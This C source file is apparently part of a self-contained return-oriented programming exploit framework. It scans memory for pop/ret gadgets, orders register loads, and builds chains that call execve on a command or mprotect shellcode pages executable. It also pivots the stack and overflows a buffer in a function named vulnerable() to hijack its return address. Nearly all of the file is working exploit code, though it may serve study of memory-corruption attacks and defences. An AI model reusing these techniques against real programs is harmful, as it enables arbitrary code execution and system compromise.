// Words in the place of vulnerable()'s return address, and the gadgets that take them.
#include "hijack.h"
#include <stdarg.h>

// MARK: Gadgets

// A run of at most five pops that ends in ret.
struct pops {
  word address;
  int count;
  enum register_name popped[5];
};

static struct pops best[2][16]; // for each register the shortest run with it; [1]: only those that begin inside an instruction
static int scanned;

static int read_pops(word at, struct pops *pops) {
  const uint8_t *byte = (const uint8_t *)at;
  pops->address = at;
  for (pops->count = 0; *byte != 0xc3; byte++) {
    unsigned high = *byte == 0x41 ? 8 : 0;
    if (high) byte++;
    if (pops->count == 5 || *byte < 0x58 || *byte > 0x5f) return 0;
    pops->popped[pops->count++] = *byte - 0x58 + high;
  }
  return pops->count > 0;
}

static void scan(void) {
  if (scanned++) return;
  for (word at = 0; (at = find_after("c3", at)) != 0;) {
    // Every beginning of the run that ends here: at most five pops of two bytes.
    for (word start = at - 1; start >= at - 10 && is_code(start - 1); start--) {
      struct pops pops;
      if (!read_pops(start, &pops)) continue;
      if (!is_code(start + 11)) continue;
      int unaligned = *(const uint8_t *)(start - 1) == 0x41; // the prefix of a pop of r8 … r15
      for (int n = 0; n < pops.count; n++) {
        if (pops.popped[n] == RSP && n != pops.count - 1 && pops.count > 2) continue;
        int turns_away = 0;
        for (int m = 0; m < pops.count; m++) turns_away |= pops.popped[m] == RSP && pops.popped[n] != RSP;
        for (int kind = 0; kind <= unaligned && !turns_away; kind++) {
          struct pops *known = &best[kind][pops.popped[n]];
          if (known->address == 0 || pops.count < known->count) *known = pops;
        }
      }
    }
  }
}

static const char *const names[] = {"rax", "rcx", "rdx", "rbx", "rsp", "rbp", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14",
                                    "r15"};

word pop_gadget(enum register_name wanted) {
  scan();
  if (best[0][wanted].address == 0) impossible("no pop of %s before a ret", names[wanted]);
  return best[0][wanted].address;
}

// MARK: Chains

struct chain chain;

void add(word value) {
  if (chain.count == LENGTH(chain.words)) impossible("a chain of more than %zu words", LENGTH(chain.words));
  chain.words[chain.count++] = value;
}

void add_zeros(size_t count) {
  while (count-- > 0) add(0);
}

void end_at(word end) {
  chain.sled = chain.count;
  chain.end = end;
}

void enter_aligned(word function) {
  chain.sled = chain.count;
  chain.aligned = 1;
  add(function);
}

word execve_entry(void) { return need(symbol("execve"), "execve"); }

void below_work(word last_hop) {
  end_at(joint);
  add(last_hop);
}

void jump_to_rax(void) {
  add(need(find("5b ff e0"), "pop %rbx; jmp *%rax"));
  add(0);
}

word below(word limit, word like) {
  word address = (limit & -64ul) + (like & 63);
  return address <= limit - 64 ? address : address - 64;
}

struct wish {
  enum register_name name;
  word value;
};

// Whether loading the wishes in this order leaves each of them in its register.
static int holds(const struct wish *wishes, const int *order, int count, int kind) {
  for (int n = 0; n < count; n++)
    for (int later = n + 1; later < count; later++) {
      const struct pops *pops = &best[kind][wishes[order[later]].name];
      for (int p = 0; p < pops->count; p++)
        if (pops->popped[p] == wishes[order[n]].name && pops->popped[p] != wishes[order[later]].name) return 0;
    }
  return 1;
}

static int find_order(const struct wish *wishes, int *order, int done, int count, int kind) {
  if (done == count) return holds(wishes, order, count, kind);
  for (int n = done; n < count; n++) {
    int kept = order[done];
    order[done] = order[n], order[n] = kept;
    if (find_order(wishes, order, done + 1, count, kind)) return 1;
    order[n] = order[done], order[done] = kept;
  }
  return 0;
}

static void load_wishes(int count, va_list list, int kind) {
  struct wish wishes[6];
  int order[6];
  scan();
  for (int n = 0; n < count; n++) {
    wishes[n].name = va_arg(list, int);
    wishes[n].value = va_arg(list, word);
    order[n] = n;
    if (best[kind][wishes[n].name].address == 0) impossible("no %spop of %s before a ret", kind ? "unaligned " : "", names[wishes[n].name]);
  }
  if (!find_order(wishes, order, 0, count, kind)) impossible("the pops here spoil one another");
  for (int n = 0; n < count; n++) {
    const struct pops *pops = &best[kind][wishes[order[n]].name];
    add(pops->address);
    for (int p = 0; p < pops->count; p++) {
      word value = 0x4141414141414141;
      for (int w = 0; w < count; w++)
        if (wishes[w].name == pops->popped[p]) value = wishes[w].value;
      add(value);
    }
  }
}

void load(int count, ...) {
  va_list list;
  va_start(list, count);
  load_wishes(count, list, 0);
  va_end(list);
}

void load_unaligned(int count, ...) {
  va_list list;
  va_start(list, count);
  load_wishes(count, list, 1);
  va_end(list);
}

void load_command(void) { load(3, RDI, (word)mark_argv[0], RSI, (word)mark_argv, RDX, (word)0); }

void load_command_and_rax(word rax) { load(4, RAX, rax, RDI, (word)mark_argv[0], RSI, (word)mark_argv, RDX, (word)0); }

void load_mprotect(void) {
  load(3, RDI, SHELLCODE_PAGES, RSI, SHELLCODE_SIZE, RDX, (word)(PROT_READ | PROT_WRITE | PROT_EXEC));
}

// MARK: The overflow

static struct {
  uint8_t buffer[BUFFER];
  word saved[SAVED];
  word words[LENGTH(chain.words) + 1024];
} record;

size_t lay_out(word slot, word *words, size_t room) {
  word ret = need(find("c3"), "ret");
  size_t between = 0;
  if (chain.end) {
    if (chain.end < slot + 8 * chain.count) impossible("the chain is longer than the stack that it may overwrite");
    between = (chain.end - slot) / 8 - chain.count;
  }
  if (chain.aligned) between = (slot / 8 + chain.sled) % 2;
  if (chain.count + between > room) impossible("the chain is longer than the record");
  memcpy(words, chain.words, 8 * chain.sled);
  for (size_t n = 0; n < between; n++) words[chain.sled + n] = ret;
  memcpy(words + chain.sled + between, chain.words + chain.sled, 8 * (chain.count - chain.sled));
  return chain.count + between;
}

// Calls vulnerable() twice from the same depth: at first only to learn where its frame is.
_Noreturn NOINLINE void strike(void) {
  word saved[SAVED] = {chain.rbx, chain.r12, chain.r13, chain.r14, chain.r15, chain.rbp};
  memset(record.buffer, 'A', sizeof record.buffer);
  memcpy(record.saved, saved, sizeof saved);
  word slot = (word)vulnerable(&record, 0) + BUFFER + 8 * SAVED;
  size_t count = lay_out(slot, record.words, LENGTH(record.words));
  vulnerable(&record, offsetof(typeof(record), words) + 8 * count);
  impossible("vulnerable() came back");
}

_Noreturn void strike_at(word memory) {
  lay_out(memory, (word *)memory, LENGTH(chain.words));
  chain.count = chain.sled = 0;
  chain.end = chain.aligned = 0;
  word leave = find("c9 c3");
  if (leave) {
    chain.rbp = memory - 8; // leave pops one word more
    add(leave);
  } else {
    add(need(find("5c 41 5e c3"), "leave; ret")); // pop %rsp; pop %r14; ret, inside each()
    add(memory - 8);
  }
  strike();
}
